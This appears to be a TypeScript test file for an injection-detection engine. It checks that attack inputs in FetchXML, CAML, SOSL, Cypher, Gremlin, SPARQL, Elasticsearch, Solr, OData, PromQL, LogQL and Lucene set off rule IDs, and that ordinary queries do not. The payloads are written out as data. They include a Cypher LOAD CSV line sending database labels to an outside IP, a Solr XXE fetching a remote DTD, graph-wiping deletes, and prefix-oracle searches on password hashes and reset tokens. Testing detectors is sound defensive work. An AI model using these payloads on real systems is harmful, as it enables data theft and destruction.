import { InspectedValue, inspectValue } from '@/runtime/analyzer/engine/detection';
import { queryLanguagePack } from '@/runtime/analyzer/engine/detection/rules/query-languages';
import type { ValueLocation } from '@/runtime/analyzer/engine/detection/types';

const ids = (value: string, name = 'q', location: ValueLocation = 'query'): number[] =>
  inspectValue(new InspectedValue(location, name, value), [queryLanguagePack]).map((r) => r.id);

describe('enterprise query languages: FetchXML, CAML and SOSL', () => {
  it.each([
    ['FetchXML, double quotes', 'x"/></filter><link-entity name="systemuser" from="systemuserid" to="ownerid"><attribute name="domainname"/>'],
    ['FetchXML, single quotes', "x%' /></filter><filter type='or'><condition attribute='contactid' operator='not-null' /></filter>"],
    ['CAML', "HR</Value></Eq><Or><IsNotNull><FieldRef Name='Salary'/></IsNotNull>"],
    ['SOSL', 'acme} IN ALL FIELDS RETURNING User(Id, Email, Username)'],
  ])('reads a search term closed into the language: %s', (_name, value) => {
    expect(ids(value, 'name')).toContain(100124);
  });

  it.each([
    [
      'FetchXML written whole',
      '<fetch top="50"><entity name="account"><filter><condition attribute="statecode" operator="eq" value="0"/><condition attribute="name" operator="like" value="Contoso%"/></filter></entity></fetch>',
    ],
    ['CAML written whole', "<View><Query><Where><Eq><FieldRef Name='Status'/><Value Type='Text'>Open</Value></Eq></Where></Query></View>"],
    ['SOSL written whole', "FIND {O'Hara & Sons*} IN NAME FIELDS RETURNING Account(Id, Name), Contact(Email)"],
    ['a search term with a brace', 'acme} returns'],
  ])('not a query written whole: %s', (_name, value) => {
    expect(ids(value, 'q')).not.toContain(100124);
  });
});

describe('query languages besides SQL and MongoDB', () => {
  it.each<[string, string, string, number]>([
    ['Cypher tautology into RETURN', 'name', "' OR 1=1 RETURN p//", 900110],
    ['Cypher map literal closed into MATCH', 'username', "a'}) MATCH (u:User) RETURN u.email //", 900110],
    [
      'Cypher LOAD CSV exfiltration',
      'name',
      "x' WITH 1 AS a CALL db.labels() YIELD label LOAD CSV FROM 'http://198.51.100.66/?'+label AS b RETURN b//",
      900110,
    ],
    ['Cypher DETACH DELETE', 'id', '12 OR 1=1 DETACH DELETE n //', 900110],
    ['Gremlin drop', 'name', "x').V().drop().iterate();g.V().has('name','x", 900111],
    ['Gremlin property dump', 'name', "x').or().V().hasLabel('user').valueMap('email','password')", 900111],
    ['SPARQL UNION', 'name', 'Alice" } UNION { ?s ?p ?o } #', 900112],
    ['SPARQL update', 'name', 'Bob" } ; INSERT DATA { <urn:u:bob> <urn:p:role> "admin" } #', 900112],
    ['Elasticsearch DSL breakout', 'q', 'phone"}},{"match_all":{}}],"should":[{"match":{"x":"', 900113],
    ['Solr XML query parser (XXE)', 'q', '{!xmlparser v=\'<!DOCTYPE a SYSTEM "http://203.0.113.5/x.dtd"><a/>\'}', 900113],
    ['Solr cross-core join', 'q', '{!join from=id to=id fromIndex=users}password:*', 900113],
    ['OData tautology', '$filter', 'CustomerId eq 123 or true', 100120],
    ['OData eq/ne tautology', '$filter', "BusinessPartner eq '1' or BusinessPartner ne '1'", 100120],
    ['OData string breakout', 'term', "a') or (1 eq 1", 100120],
    ['OData string closed and a condition on another field added', 'search', "Contoso' or statecode eq 0 or name eq '", 100120],
    ['PromQL selector closed for another', 'service', 'checkout"} or {__name__=~".+', 900114],
    ['PromQL matcher for every namespace added', 'service', 'checkout",namespace=~".*', 900114],
    ['LogQL selector closed after a line filter', 'app', 'payments"} |= "" or {namespace="kube-system', 900114],
    ['Lucene group closed into another field', 'q', '*) OR (visibility:private AND owner_id:*', 900115],
    ['Lucene group closed into _exists_', 'q', 'acme) OR _exists_:ssn OR (x', 900115],
    ['Lucene phrase closed into another field', 'term', '" OR role:admin OR "', 900115],
  ])('%s', (_label, name, value, id) => {
    expect(ids(value, name)).toContain(id);
  });

  it('reads a filter lookup or search on a secret field, by name or in search syntax', () => {
    expect(ids('pbkdf2_sha256$600000$a', 'created_by__user__password__startswith')).toContain(100121);
    expect(ids('^9f', 'password_reset_tokens__token__regex', 'body_json')).toContain(100121);
    expect(ids('a3', 'q[reset_password_token_start]')).toContain(100121);
    // Ransack names a field through its associations, joined by `_`
    expect(ids('a8', 'q[user_reset_password_token_start]')).toContain(100121);
    expect(ids('a8', 'q[title_cont]')).toEqual([]);
    expect(ids('a', 'where.resetToken.startsWith', 'body_json')).toContain(100121);
    expect(ids('username:admin AND reset_token:a*')).toContain(100121);
    expect(ids("startswith(PasswordHash,'$2a$10$Q') eq true", '$filter')).toContain(100121);
    expect(ids('pass', 'filter[x][condition][path]')).toContain(100121);
    expect(ids('title', 'filter[x][condition][path]')).toEqual([]);
    // ServiceNow's encoded queries glue the operator to the field: a prefix oracle, or a sort, on the password hash
    expect(ids('user_name=admin^user_passwordSTARTSWITH$s$ib', 'sysparm_query')).toContain(100121);
    expect(ids('roles=admin^ORuser_passwordISNOTEMPTY^ORDERBYuser_password', 'sysparm_query')).toContain(100121);
    expect(ids('active=true^ORDERBYDESCsys_updated_on', 'sysparm_query')).toEqual([]);
    expect(ids('nameLIKEpassword^ORnameLIKEsecret', 'sysparm_query')).toEqual([]);
    expect(ids('password reset like yesterday')).toEqual([]);
    expect(ids('Manager($expand=Reports($expand=Manager($expand=Reports($expand=Manager($expand=Reports($expand=Manager)))))))', '$expand')).toContain(100122);
  });

  it.each<[string, string]>([
    ['$filter', "Status eq 'Open' and Priority ge 2"],
    ['$filter', "startswith(CompanyName,'Al') or Country eq 'DE'"],
    ['q', 'title:"quarterly report" AND author:smith*'],
    ['q', 'Rock and roll or jazz'],
    ['name', "O'Brien"],
    ['password', 'correct horse battery staple'],
    ['password_confirmation', 'hunter2'],
    ['filters[title][$containsi]', 'shirt'],
    ['q', '{"match":{"title":"phone"}}'],
    // A policy document an API takes as a string: `"},"Bool"` is its own syntax, not a string closed out of a query DSL.
    [
      'PolicyDocument',
      '{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Action":"s3:GetObject","Resource":"*","Condition":{"StringEquals":{"aws:PrincipalTag/team":"finance"},"Bool":{"aws:SecureTransport":"true"}}}]}',
    ],
    ['comment', 'Great read — the "graph" chapter (p. 12) was my favourite :)'],
    ['$expand', 'Orders($expand=Items)'],
    // OData filters written whole, string literals closed before `or` (SAP's purchase orders, audit log)
    ['$filter', "Supplier eq '0017300001' and (PurchasingProcessingStatus eq '01' or PurchasingProcessingStatus eq '02')"],
    ['$filter', "EventDate ge datetime'2024-06-03T00:00:00' and (MessageId eq 'AU1' or MessageId eq 'AU2')"],
    // PromQL and LogQL written whole: the language used, not injected into
    ['query', 'up{job="a"} or up{job="b"}'],
    ['query', 'sum by (pod) (rate(http_requests_total{job="api",code=~"5.."}[5m]))'],
    ['query', '{app="nginx"} |= "error"'],
    // Lucene queries written whole, and prose with a list number
    ['q', 'status:500 OR (service:api AND level:error)'],
    ['q', 'name:"John" OR name:"Jane"'],
    ['comment', 'Step 1) and note: the fee is waived'],
  ])('leaves %s=%s alone', (name, value) => {
    expect(ids(value, name)).toEqual([]);
  });
});
